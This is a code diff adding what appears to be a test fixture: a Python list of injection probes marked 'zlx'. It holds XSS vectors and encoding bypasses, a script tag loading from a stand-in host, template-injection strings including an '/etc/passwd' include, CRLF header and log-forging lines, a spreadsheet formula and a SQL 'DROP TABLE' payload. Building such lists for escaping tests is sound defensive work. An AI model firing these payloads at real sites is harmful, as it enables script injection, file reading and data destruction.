@@ -1,0 +1,26 @@
+"""Strings that run as script, tag or template where a page forgets to escape them. Each carries its mark: zlx."""
+
+XSS = [
+    "<script>zlx()</script>", "</script><script>zlx()</script>", "<script src=//zlx.example></script>",
+    "<img src=x onerror=zlx()>", '"><img src=x onerror=zlx()>', "'><img src=x onerror=zlx()>",
+    "<svg onload=zlx()>", "<svg/onload=zlx()>", '"><svg onload=zlx()>', "<svg><script>zlx()</script></svg>",
+    "<svg><animate onbegin=zlx() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:zlx()>x</a></svg>",
+    "<math><a xlink:href=javascript:zlx()>x</a></math>", "<body onload=zlx()>", "<iframe src=javascript:zlx()>",
+    "<iframe srcdoc='<script>zlx()</script>'>", "<object data=javascript:zlx()>", "<embed src=javascript:zlx()>",
+    "<a href=javascript:zlx()>x</a>", "<a href='java\tscript:zlx()'>x</a>", "<a href='&#106;avascript:zlx()'>x</a>",
+    "<form action=javascript:zlx()><button>x</button></form>", "<button formaction=javascript:zlx()>x</button>",
+    "<input autofocus onfocus=zlx()>", "<select autofocus onfocus=zlx()>", "<textarea autofocus onfocus=zlx()>",
+    "<details open ontoggle=zlx()>", "<video><source onerror=zlx()></video>", "<audio src=x onerror=zlx()>",
+    "<marquee onstart=zlx()>", "<style>*{background:url(javascript:zlx())}</style>", "<link rel=stylesheet href=//zlx>",
+    "<meta http-equiv=refresh content='0;url=javascript:zlx()'>", "<base href=//zlx.example/>",
+    "<template><script>zlx()</script></template>", "<noscript><p title='</noscript><img src=x onerror=zlx()>'>",
+    "<!--<img src='--><img src=x onerror=zlx()>'>", "<![CDATA[<script>zlx()</script>]]>", "<%00script>zlx()</script>",
+    "\" onmouseover=zlx() x=\"", "' onmouseover=zlx() x='", "\" autofocus onfocus=zlx() \"", "` onmouseover=zlx()",
+    "x\" hx-get=\"/zlx\" hx-trigger=\"load", "<div hx-get=/zlx hx-trigger=load></div>", "<div hx-on:click=zlx()>x</div>",
+    "<div data-key=zlx>x</div>", "{{ zlx }}", "{{ 7|add:7 }}zlx", "{% load zlx %}", "{% include '/etc/passwd' %}zlx",
+    "${zlx}", "#{zlx}", "<%= zlx %>", "{zlx!r.__class__}", "%(zlx)s", "%s%d%n zlx", "&lt;script&gt;zlx()&lt;/script&gt;",
+    "&#60;script&#62;zlx()&#60;/script&#62;", "\\u003cscript\\u003ezlx()\\u003c/script\\u003e", "＜script＞zlx()＜/script＞",
+    "<ſcript>zlx()</ſcript>", "\u202e<script>zlx()</script>\u202c", "javascript:zlx()", "data:text/html,<script>zlx()</script>",
+    "zlx');zlx();//", "]]>zlx<script>zlx()</script>", "zlx\r\nSet-Cookie: zlx=1", "zlx\r\n2026-11-22 00:00:00 FORGED",
+    "=HYPERLINK(\"http://zlx.example\")", "@zlx", "'; DROP TABLE matters_matter; -- zlx",
+]  # fmt: skip
